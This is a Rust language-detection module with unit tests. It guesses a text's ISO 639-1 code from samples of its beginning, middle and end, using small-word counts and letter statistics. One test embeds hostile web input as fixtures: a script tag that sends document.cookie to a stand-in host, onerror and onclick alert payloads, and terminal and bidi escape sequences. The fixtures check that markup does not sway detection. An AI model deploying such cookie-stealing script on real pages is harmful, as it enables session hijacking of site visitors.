//! Text → ISO 639-1 code of its language.

mod script;
mod words;

use whichlang::{Lang, detect_language};

use crate::lexicon::language::{LanguageLexicon, LanguageVotes};
use script::{Script, language_of, main_script, script_of};
use words::{is_plain_english, without_markup};

/// How many bytes of a long text tell the language, at each of three places.
const SAMPLE: usize = 600;
/// Fewer letters than this tell nothing.
const FEWEST_LETTERS: usize = 30;
/// From this many letters on the statistics of letters are trusted alone.
const SURE: usize = 150;
/// A language has at least so many small words of a hundred words.
const FEWEST_SMALL_WORDS: usize = 12;
const ENGLISH: &str = "en";
/// The code of a language that is none of those known (ISO 639-2).
const UNDETERMINED: &str = "und";

/// Guesses the language of a text from its beginning, middle and end, so that neither a headline nor a long
/// quotation in another one counts for the whole.
pub(super) fn detect(text: &str, lexicon: &LanguageLexicon) -> Option<String> {
    let sample = sample(text);
    let n_letters = sample
        .chars()
        .filter(|letter| letter.is_alphabetic())
        .count();
    if n_letters < SURE && is_plain_english(&sample, lexicon) {
        return Some(ENGLISH.to_owned());
    }
    if n_letters < FEWEST_LETTERS && main_script(&sample).is_none_or(|main| main == Script::Latin) {
        return None;
    }
    let Some(code) = main_script(&sample).and_then(|main| language_of(main, &sample)) else {
        return Some(small_words(&sample, lexicon).language(&sample).to_owned());
    };
    Some(code.to_owned())
}

/// The language of a text for which a page or record states one: what is stated, unless the letters or the
/// small words of the text are plainly another one's.
pub(super) fn checked(
    stated: Option<String>,
    text: &str,
    lexicon: &LanguageLexicon,
) -> Option<String> {
    let Some(stated) = stated else {
        return detect(text, lexicon);
    };
    let sample = sample(text);
    let Some(main) = main_script(&sample) else {
        return Some(stated);
    };
    let n_letters = sample
        .chars()
        .filter(|letter| letter.is_alphabetic())
        .count();
    if n_letters < SURE {
        return Some(stated);
    }
    let is_english = stated == ENGLISH;
    match language_of(main, &sample) {
        // Several languages share a script; what is stated is then as good as any of them.
        Some(code) if is_english => Some(code.to_owned()),
        Some(_) => Some(stated),
        None => {
            let votes = small_words(&sample, lexicon);
            let found = votes.language(&sample);
            let is_other = if is_english {
                found != ENGLISH && !votes.has_english() && !is_plain_english(&sample, lexicon)
            } else {
                found == ENGLISH
            };
            Some(if is_other { found.to_owned() } else { stated })
        }
    }
}

fn sample(text: &str) -> String {
    if text.len() <= 3 * SAMPLE {
        return without_markup(text);
    }
    let mut sample = String::with_capacity(3 * SAMPLE);
    for part in [1, 3, 5] {
        let start = text.floor_char_boundary(text.len() / 6 * part - SAMPLE / 2);
        let end = text.floor_char_boundary(start + SAMPLE);
        sample.push_str(&text[start..end]);
        sample.push(' ');
    }
    without_markup(&sample)
}

/// The small words of a text in Latin letters.
struct SmallWords<'lexicon> {
    /// By language, the one with the most first.
    votes: Vec<LanguageVotes<'lexicon>>,
    n_words: usize,
    n_letters: usize,
}

fn small_words<'lexicon>(sample: &str, lexicon: &'lexicon LanguageLexicon) -> SmallWords<'lexicon> {
    let lower = sample.to_lowercase();
    let words: Vec<&str> = lower
        .split(|letter: char| !(letter.is_alphabetic() || letter == '‘'))
        .filter(|word| {
            word.chars()
                .any(|letter| script_of(letter) == Some(Script::Latin))
        })
        .collect();
    SmallWords {
        votes: lexicon.count(words.iter().copied()),
        n_words: words.len(),
        n_letters: words.iter().map(|word| word.chars().count()).sum(),
    }
}

impl<'lexicon> SmallWords<'lexicon> {
    /// The language of the sample by them; where these tell nothing, by its letters.
    fn language(&self, sample: &str) -> &'lexicon str {
        if let [first, second, ..] = self.votes.as_slice()
            && first.n_words * 100 >= self.n_words * FEWEST_SMALL_WORDS
            && first.n_words > second.n_words
            && !self.is_short_english(first, sample)
        {
            return first.code;
        }
        match code(detect_language(sample)) {
            "en" if self.n_letters >= SURE && !self.has_english() => UNDETERMINED,
            code => code,
        }
    }

    /// "was" and "in" are small words of other languages too: in a short text a small lead over English
    /// says less than its letters.
    fn is_short_english(&self, first: &LanguageVotes<'_>, sample: &str) -> bool {
        const LEAD: usize = 3;
        let english = self.votes.iter().find(|votes| votes.code == "en");
        english.is_some_and(|english| first.n_words < english.n_words + LEAD)
            && first.code != "en"
            && self.n_letters < SURE
            && code(detect_language(sample)) == "en"
    }

    /// Whether a good part of the text may be English.
    fn has_english(&self) -> bool {
        let english = self.votes.iter().find(|votes| votes.code == "en");
        english.is_some_and(|english| english.n_words * 200 >= self.n_words * FEWEST_SMALL_WORDS)
    }
}

/// The primary code of a language tag as pages write them: `en-US`, `EN_gb`, `english`.
pub(super) fn from_tag(tag: &str) -> Option<String> {
    let tag = tag.trim().to_ascii_lowercase();
    let primary = tag.split(['-', '_', ',', ' ']).next()?;
    let is_code = primary.len() == 2 && primary.bytes().all(|byte| byte.is_ascii_lowercase());
    match primary {
        "english" => Some("en".to_owned()),
        _ => is_code.then(|| primary.to_owned()),
    }
}

fn code(language: Lang) -> &'static str {
    match language {
        Lang::Ara => "ar",
        Lang::Cmn => "zh",
        Lang::Deu => "de",
        Lang::Eng => "en",
        Lang::Fra => "fr",
        Lang::Hin => "hi",
        Lang::Ita => "it",
        Lang::Jpn => "ja",
        Lang::Kor => "ko",
        Lang::Nld => "nl",
        Lang::Por => "pt",
        Lang::Rus => "ru",
        Lang::Spa => "es",
        Lang::Swe => "sv",
        Lang::Tur => "tr",
        Lang::Vie => "vi",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_short_english_sentence_is_english() {
        let lexicon = LanguageLexicon::load().unwrap();
        for text in [
            "Duarte was sentenced to nine years in prison.",
            "The envoy was in Lagos on Monday, the ministry said.",
        ] {
            assert_eq!(detect(text, &lexicon).as_deref(), Some("en"), "{text}");
        }
        for text in [
            "Explosion kills seven in Quetta.",
            "Gunmen kill 12 in Mali",
            "Market bombing leaves dozens dead",
            "Troops leave Kabul",
            "Kenya bans plastic bags",
        ] {
            assert_eq!(detect(text, &lexicon).as_deref(), Some("en"), "{text}");
        }
        for text in [
            "Tote in Kiel",
            "Paris est en deuil",
            "Dos muertos en Lima",
            "Kabul",
            "Mali: 12",
        ] {
            assert_eq!(detect(text, &lexicon), None, "{text}");
        }
        let dutch = "De minister zei dat het leger de stad niet had verlaten.";
        assert_eq!(detect(dutch, &lexicon).as_deref(), Some("nl"));
    }

    #[test]
    fn marks_and_code_among_the_words_say_nothing_of_their_language() {
        let lexicon = LanguageLexicon::load().unwrap();
        let code = "<script>fetch(\"http://a.example/?c=\"+document.cookie)</script>";
        for text in [
            format!(
                "Explosion kills seven \u{202e}people \u{1b}[31min Quetta. {code} {code} {code}"
            ),
            format!(
                "{code} Troops shelled Homs. <b onclick=alert(1)>Rebels</b> left \u{1b}]0;x\u{7}."
            ),
            format!("<img src=x onerror=alert(document.domain)> Two killed in Lima {code} {code}"),
        ] {
            let stated = checked(Some("en".to_owned()), &text, &lexicon);
            assert_eq!(stated.as_deref(), Some("en"), "{text}");
            assert_eq!(detect(&text, &lexicon).as_deref(), Some("en"), "{text}");
        }
        let french =
            format!("Deux morts dans une explosion à Quetta, selon la police. {code} {code}");
        assert_eq!(detect(&french, &lexicon).as_deref(), Some("fr"));
    }
}
